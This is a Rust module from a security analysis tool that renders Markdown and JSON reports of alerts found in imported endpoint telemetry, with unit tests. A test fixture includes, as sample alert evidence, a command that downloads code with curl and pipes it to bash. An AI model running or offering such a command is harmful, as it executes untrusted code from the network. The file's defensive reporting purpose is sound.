//! The events report: what the event rules found in imported telemetry (Defender for Endpoint
//! exports, audit logs, the journal), as the seed's fleet alert report gives it (analysis
//! period, events analyzed, alerts, highest severity, devices; per alert its id, severity,
//! category, ATT&CK ids with their names, description, the evidence with the event's own time,
//! device, action type, key fields and the bundle member and record it came from, a risk
//! assessment of that event, and the findings of other sources that share its indicators),
//! in Markdown ([`render`]) and JSON (the [`EventsReport`] itself, serialized).
//!
//! The Markdown is written in the language of the catalogue given (headings, labels,
//! severities, rule titles); the JSON is language-independent. Pure: the caller gives the report already sorted (alerts by severity, then time, device and
//! rule), and nothing here reads a clock, so the same bundles give the same bytes.

use crate::markdown::md;
use crate::words::{comma, rendered, rule_title};
use dossier_i18n::Catalog;
use dossier_plugin_api::analysis::Message;
use serde::Serialize;
use std::fmt::Write as _;

/// Name of the JSON document's schema.
pub const SCHEMA: &str = "dossier-events-report";
/// Its version.
pub const SCHEMA_VERSION: u32 = 1;

/// The whole report.
#[derive(Clone, Debug, Default, Serialize)]
pub struct EventsReport {
    pub schema: String,
    pub schema_version: u32,
    /// First and last event time analyzed (UTC, RFC 3339); empty when there were none.
    pub period_start: String,
    pub period_end: String,
    pub events_analyzed: u64,
    pub alerts: Vec<AlertView>,
    /// `LOW`... of the worst alert, or `NONE`.
    pub highest_severity: String,
    /// Alerts per event analyzed (0 when none were).
    pub alert_ratio: f64,
    /// Devices with events, as the sources name them (one per host key).
    pub devices: Vec<DeviceView>,
    /// The import bundles analyzed.
    pub sources: Vec<SourceView>,
    /// Alerts of `informational` severity, counted but not listed one by one.
    pub informational: u64,
    /// Those informational alerts in brief (routine activity: what ran, where, how often).
    pub routine: Vec<RoutineView>,
}

/// An informational alert in brief.
#[derive(Clone, Debug, Default, Serialize)]
pub struct RoutineView {
    pub rule: String,
    pub title: String,
    pub category: String,
    pub device: String,
    pub first_time: String,
    pub events: u64,
    /// ATT&CK ids.
    pub techniques: Vec<String>,
}

/// One device of the report.
#[derive(Clone, Debug, Default, Serialize)]
pub struct DeviceView {
    pub device: String,
    pub events: u64,
    pub alerts: u64,
    /// The triage bundle of the same host analyzed in the same run, if any.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub triage_bundle: Option<String>,
}

/// One import bundle analyzed.
#[derive(Clone, Debug, Default, Serialize)]
pub struct SourceView {
    pub bundle: String,
    pub sha256: String,
    pub events: u64,
}

/// One alert.
#[derive(Clone, Debug, Default, Serialize)]
pub struct AlertView {
    /// `ALERT-001`, in report order.
    pub id: String,
    /// The rule that raised it.
    pub rule: String,
    pub title: String,
    /// `LOW`, `MEDIUM`, `HIGH` or `CRITICAL`.
    pub severity: String,
    pub category: String,
    pub techniques: Vec<TechniqueView>,
    pub description: String,
    /// `description` as a catalogue message, for reports in the responder's language (not
    /// in events.json, which is the same in every language).
    #[serde(skip)]
    pub description_message: Option<Message>,
    pub evidence: EvidenceView,
    pub risk: String,
    /// `risk` as a catalogue message (not in events.json).
    #[serde(skip)]
    pub risk_message: Option<Message>,
    /// Findings of other sources (a triage bundle of this or another host, another device's
    /// events) that share an indicator with this alert.
    pub related: Vec<String>,
    /// `related` as catalogue messages, in the same order (not in events.json; empty when
    /// the lines have none: they are then shown as they are).
    #[serde(skip)]
    pub related_messages: Vec<Message>,
    /// The alert's indicators (hashes, addresses, paths, accounts), as findings list IOCs.
    pub indicators: Vec<dossier_plugin_api::analysis::Ioc>,
}

/// An ATT&CK technique.
#[derive(Clone, Debug, Default, Serialize)]
pub struct TechniqueView {
    pub id: String,
    pub name: String,
}

/// Where an alert comes from.
#[derive(Clone, Debug, Default, Serialize)]
pub struct EvidenceView {
    /// The event's own time (the first, for an alert over several events).
    pub time: String,
    #[serde(skip_serializing_if = "Option::is_none")]
    pub last_time: Option<String>,
    pub device: String,
    pub action_type: String,
    /// `defender_csv`, `audit`, `journal`... and the Defender table.
    pub source: String,
    /// The key fields, in the order they are shown.
    pub fields: Vec<(String, String)>,
    /// `BUNDLE: MEMBER, RECORD` of each event behind the alert (the first few).
    pub origins: Vec<String>,
    /// How many events the alert covers.
    pub events: u64,
}

/// An alert category as analyses name it (`Command and Control`) in the catalogue's language
/// (`events.category.*`, whose English is the same label); any other text as it is.
fn category<'a>(c: &'a Catalog, label: &'a str) -> &'a str {
    let en = crate::words::english();
    en.ids()
        .filter(|id| id.starts_with("events.category."))
        .find(|id| en.get(id) == Some(label))
        .and_then(|id| c.get(id))
        .unwrap_or(label)
}

fn badge(severity: &str, c: &Catalog) -> String {
    let (mark, id) = match severity {
        "CRITICAL" => ("🔴", "events.severity.critical"),
        "HIGH" => ("🟠", "events.severity.high"),
        "MEDIUM" => ("🟡", "events.severity.medium"),
        "LOW" => ("🟢", "events.severity.low"),
        _ => ("⚪", "events.severity.informational"),
    };
    format!("{mark} {}", c.text(id))
}

/// The highest severity as the summary gives it: `NONE` stays as it is.
fn severity_word(severity: &str, c: &Catalog) -> String {
    match severity {
        "CRITICAL" | "HIGH" | "MEDIUM" | "LOW" | "INFORMATIONAL" => c
            .text(&format!(
                "events.severity.{}",
                severity.to_ascii_lowercase()
            ))
            .to_string(),
        "NONE" => c.text("events.no_severity").to_string(),
        other => other.to_string(),
    }
}

/// The Markdown report, in the language of `c`.
pub fn render(r: &EventsReport, c: &Catalog) -> String {
    let mut s = format!("# {}\n\n", c.text("events.title"));
    if r.events_analyzed > 0 {
        let _ = writeln!(
            s,
            "{}",
            c.format(
                "events.period",
                &[("from", &md(&r.period_start)), ("to", &md(&r.period_end))]
            )
        );
    }
    let devices: Vec<String> = r.devices.iter().map(|d| md(&d.device)).collect();
    let _ = writeln!(
        s,
        "{}\n",
        c.format("events.devices", &[("devices", &comma(c, &devices))])
    );
    let _ = write!(s, "---\n\n## {}\n\n", c.text("events.summary"));
    let _ = writeln!(
        s,
        "{}",
        c.format("events.total", &[("n", &r.events_analyzed)])
    );
    let _ = writeln!(
        s,
        "{}",
        c.format("events.alerts", &[("n", &r.alerts.len())])
    );
    if r.informational > 0 {
        let _ = writeln!(
            s,
            "{}",
            c.format("events.informational", &[("n", &r.informational)])
        );
    }
    let _ = writeln!(
        s,
        "{}",
        c.format(
            "events.highest",
            &[("severity", &severity_word(&r.highest_severity, c))]
        )
    );
    let _ = writeln!(
        s,
        "{}",
        c.format("events.monitored", &[("n", &r.devices.len())])
    );
    let _ = writeln!(
        s,
        "{}\n",
        c.format(
            "events.ratio",
            &[
                ("ratio", &format!("{:.4}", r.alert_ratio)),
                ("alerts", &r.alerts.len()),
                ("events", &r.events_analyzed),
            ]
        )
    );
    device_table(&mut s, r, c);
    let _ = write!(s, "---\n\n## {}\n\n", c.text("events.alerts_heading"));
    if r.alerts.is_empty() {
        let _ = write!(s, "{}\n\n", c.text("events.no_alert"));
    }
    for a in &r.alerts {
        alert(&mut s, a, c);
    }
    routine(&mut s, r, c);
    let _ = write!(
        s,
        "## {}\n\n| {} | {} | {} |\n|---|---|---|\n",
        c.text("events.sources"),
        c.text("events.table.bundle"),
        c.text("events.table.sha256"),
        c.text("events.table.events")
    );
    for src in &r.sources {
        let _ = writeln!(
            s,
            "| `{}` | `{}` | {} |",
            md(&src.bundle),
            src.sha256,
            src.events
        );
    }
    s
}

fn routine(s: &mut String, r: &EventsReport, c: &Catalog) {
    if r.routine.is_empty() {
        return;
    }
    let columns: Vec<String> = [
        "rule", "what", "category", "device", "first", "events", "attack",
    ]
    .iter()
    .map(|k| c.text(&format!("events.routine.{k}")).to_string())
    .collect();
    let _ = write!(
        s,
        "## {}\n\n{}\n\n| {} |\n|---|---|---|---|---|---|---|\n",
        c.text("events.routine.heading"),
        c.text("events.routine.intro"),
        columns.join(" | ")
    );
    for x in &r.routine {
        let _ = writeln!(
            s,
            "| `{}` | {} | {} | {} | {} | {} | {} |",
            x.rule,
            md(rule_title(c, &x.rule, &x.title)),
            md(category(c, &x.category)),
            md(&x.device),
            md(&x.first_time),
            x.events,
            if x.techniques.is_empty() {
                c.text("events.na").to_string()
            } else {
                x.techniques.join(", ")
            }
        );
    }
    s.push('\n');
}

fn device_table(s: &mut String, r: &EventsReport, c: &Catalog) {
    if r.devices.is_empty() {
        return;
    }
    let _ = write!(
        s,
        "| {} | {} | {} | {} |\n|---|---|---|---|\n",
        c.text("events.table.device"),
        c.text("events.table.events"),
        c.text("events.table.alerts"),
        c.text("events.table.triage")
    );
    for d in &r.devices {
        let _ = writeln!(
            s,
            "| {} | {} | {} | {} |",
            md(&d.device),
            d.events,
            d.alerts,
            d.triage_bundle.as_deref().map_or_else(
                || c.text("events.none").to_string(),
                |b| format!("`{}`", md(b))
            )
        );
    }
    s.push('\n');
}

fn alert(s: &mut String, a: &AlertView, c: &Catalog) {
    let _ = writeln!(s, "### {}: {}", a.id, md(rule_title(c, &a.rule, &a.title)));
    let _ = writeln!(
        s,
        "{}",
        c.format(
            "events.alert.severity",
            &[("severity", &badge(&a.severity, c))]
        )
    );
    let _ = writeln!(
        s,
        "{}",
        c.format(
            "events.alert.category",
            &[("category", &md(category(c, &a.category)))]
        )
    );
    let techniques: Vec<String> = a
        .techniques
        .iter()
        .map(|t| format!("{} - {}", t.id, md(&t.name)))
        .collect();
    let techniques = if techniques.is_empty() {
        c.text("events.na").to_string()
    } else {
        techniques.join(", ")
    };
    let _ = writeln!(
        s,
        "{}\n",
        c.format("events.alert.mitre", &[("mitre", &techniques)])
    );
    let _ = writeln!(
        s,
        "{}\n{}\n",
        c.text("events.alert.description"),
        rendered(c, &a.description, a.description_message.as_ref()).trim()
    );
    let e = &a.evidence;
    let _ = writeln!(s, "{}", c.text("events.alert.evidence"));
    let _ = writeln!(
        s,
        "- {}",
        c.format("events.alert.time", &[("time", &md(&e.time))])
    );
    if let Some(last) = &e.last_time {
        let _ = writeln!(
            s,
            "- {}",
            c.format(
                "events.alert.last",
                &[("time", &md(last)), ("n", &e.events)]
            )
        );
    }
    for (id, name, v) in [
        ("events.alert.action", "action", &e.action_type),
        ("events.alert.device", "device", &e.device),
        ("events.alert.source", "source", &e.source),
    ] {
        let _ = writeln!(s, "- {}", c.format(id, &[(name, &md(v))]));
    }
    if !e.fields.is_empty() {
        let _ = writeln!(s, "- {}", c.text("events.alert.fields"));
        for (k, v) in &e.fields {
            let _ = writeln!(s, "  - {}: `{}`", md(k), md(v));
        }
    }
    for o in &e.origins {
        let _ = writeln!(
            s,
            "- {}",
            c.format("events.alert.record", &[("record", &md(o))])
        );
    }
    let _ = writeln!(
        s,
        "\n{}\n{}\n",
        c.text("events.alert.risk"),
        rendered(c, &a.risk, a.risk_message.as_ref()).trim()
    );
    if !a.related.is_empty() {
        let _ = writeln!(s, "{}", c.text("events.alert.related"));
        for (i, r) in a.related.iter().enumerate() {
            let line = rendered(c, r, a.related_messages.get(i));
            let _ = writeln!(s, "- {}", md(&line));
        }
        s.push('\n');
    }
    s.push_str("---\n\n");
}

/// The fleet report's paragraph on imported events (Markdown, one line).
pub fn fleet_paragraph(r: &EventsReport, c: &Catalog) -> String {
    let or_dash = |t: &str| {
        if t.is_empty() {
            "-".to_string()
        } else {
            t.to_string()
        }
    };
    let line = c.format(
        "events.fleet",
        &[
            ("events", &r.events_analyzed),
            ("bundles", &r.sources.len()),
            ("devices", &r.devices.len()),
            ("from", &or_dash(&r.period_start)),
            ("to", &or_dash(&r.period_end)),
            ("alerts", &r.alerts.len()),
            ("highest", &severity_word(&r.highest_severity, c)),
            ("informational", &r.informational),
            ("ratio", &format!("{:.4}", r.alert_ratio)),
        ],
    );
    format!("{line}\n")
}

/// The *Imported events* section of one device's host report, with `alerts`, its alerts.
pub fn device_section(
    r: &EventsReport,
    device: &DeviceView,
    alerts: &[&AlertView],
    c: &Catalog,
) -> String {
    let bundles: Vec<String> = r
        .sources
        .iter()
        .map(|s| format!("`{}`", md(&s.bundle)))
        .collect();
    let mut s = format!(
        "\n## {}\n\n{}\n\n",
        c.text("events.device.heading"),
        c.format(
            "events.device.intro",
            &[
                ("events", &device.events),
                ("device", &md(&device.device)),
                ("bundles", &comma(c, &bundles)),
                ("alerts", &device.alerts),
            ]
        )
    );
    if !alerts.is_empty() {
        let columns: Vec<String> = ["alert", "severity", "time", "rule", "what"]
            .iter()
            .map(|k| c.text(&format!("events.device.{k}")).to_string())
            .collect();
        let _ = write!(s, "| {} |\n|---|---|---|---|---|\n", columns.join(" | "));
        for a in alerts {
            let _ = writeln!(
                s,
                "| {} | {} | {} | `{}` | {} |",
                a.id,
                severity_word(&a.severity, c),
                md(&a.evidence.time),
                a.rule,
                md(rule_title(c, &a.rule, &a.title))
            );
        }
    }
    s
}

/// The host report of a device with imported events only (`section`: its
/// [`device_section`]).
pub fn events_only_host(device: &DeviceView, section: &str, c: &Catalog) -> String {
    format!(
        "# {}\n\n{}\n{section}",
        c.format("events.host.title", &[("host", &md(&device.device))]),
        c.text("events.host.only")
    )
}

/// The events report's list of event records that could not be read (nothing when none).
pub fn unreadable(errors: &[String], c: &Catalog) -> String {
    if errors.is_empty() {
        return String::new();
    }
    let mut s = format!("\n## {}\n\n", c.text("events.unreadable"));
    for e in errors {
        let _ = writeln!(s, "- {}", md(e));
    }
    s
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::words::english as en;

    fn sample() -> EventsReport {
        EventsReport {
            schema: SCHEMA.into(),
            schema_version: SCHEMA_VERSION,
            period_start: "2025-11-07T06:40:09.38102Z".into(),
            period_end: "2025-11-07T06:46:38.168331Z".into(),
            events_analyzed: 4,
            highest_severity: "HIGH".into(),
            alert_ratio: 0.5,
            informational: 1,
            routine: vec![RoutineView {
                rule: "event-routine-monitoring".into(),
                title: "sysstat collection".into(),
                category: "System Monitoring".into(),
                device: "wazuh1".into(),
                first_time: "2025-11-07T06:40:09.38102Z".into(),
                events: 1,
                techniques: vec![],
            }],
            devices: vec![DeviceView {
                device: "wazuh1".into(),
                events: 4,
                alerts: 2,
                triage_bundle: Some("wazuh1-20251107T070000Z.zip".into()),
            }],
            sources: vec![SourceView {
                bundle: "import-1.zip".into(),
                sha256: "ab".repeat(32),
                events: 4,
            }],
            alerts: vec![AlertView {
                id: "ALERT-001".into(),
                rule: "event-download-exec".into(),
                title: "Download piped to a shell".into(),
                severity: "HIGH".into(),
                category: "execution".into(),
                techniques: vec![TechniqueView {
                    id: "T1105".into(),
                    name: "Ingress Tool Transfer".into(),
                }],
                description: "curl output run by bash".into(),
                description_message: None,
                evidence: EvidenceView {
                    time: "2025-11-07T06:46:38.168331Z".into(),
                    last_time: None,
                    device: "wazuh1".into(),
                    action_type: "ScriptContent".into(),
                    source: "defender_csv DeviceEvents".into(),
                    fields: vec![("Command".into(), "curl -s http://x | bash".into())],
                    origins: vec!["import-1.zip: raw/x.csv, line 3".into()],
                    events: 1,
                },
                risk: "Code from the network ran as root.".into(),
                risk_message: None,
                related: vec!["wazuh1 triage: cron entry runs the same URL".into()],
                related_messages: vec![],
                indicators: vec![dossier_plugin_api::analysis::Ioc::Address(
                    "203.0.113.45".into(),
                )],
            }],
        }
    }

    #[test]
    fn renders_every_part_of_an_alert_and_the_summary() {
        let t = render(&sample(), en());
        for want in [
            "**Analysis Period:** 2025-11-07T06:40:09.38102Z - 2025-11-07T06:46:38.168331Z UTC",
            "**Total Events Analyzed:** 4",
            "**Alerts Generated:** 1",
            "**Highest Severity:** HIGH",
            "**Alert-to-Event Ratio:** 0.5000 (1 alerts / 4 events)",
            "### ALERT-001: Download piped to a shell",
            "**Severity:** 🟠 HIGH",
            "**MITRE ATT&CK:** T1105 - Ingress Tool Transfer",
            "- **Action Type:** ScriptContent",
            "  - Command: `curl -s http://x \\| bash`",
            "- **Record:** import-1.zip: raw/x.csv, line 3",
            "**Seen in other sources:**",
            "| wazuh1 | 4 | 2 | `wazuh1-20251107T070000Z.zip` |",
            "| `event-routine-monitoring` | sysstat collection | System Monitoring | wazuh1 | 2025-11-07T06:40:09.38102Z | 1 | N/A |",
        ] {
            assert!(t.contains(want), "missing {want:?} in\n{t}");
        }
        assert_eq!(t, render(&sample(), en()), "not deterministic");
    }

    #[test]
    fn an_empty_report_says_so() {
        let t = render(
            &EventsReport {
                highest_severity: "NONE".into(),
                ..Default::default()
            },
            en(),
        );
        assert!(t.contains("No alert"), "{t}");
        assert!(!t.contains("Analysis Period"), "{t}");
    }
}
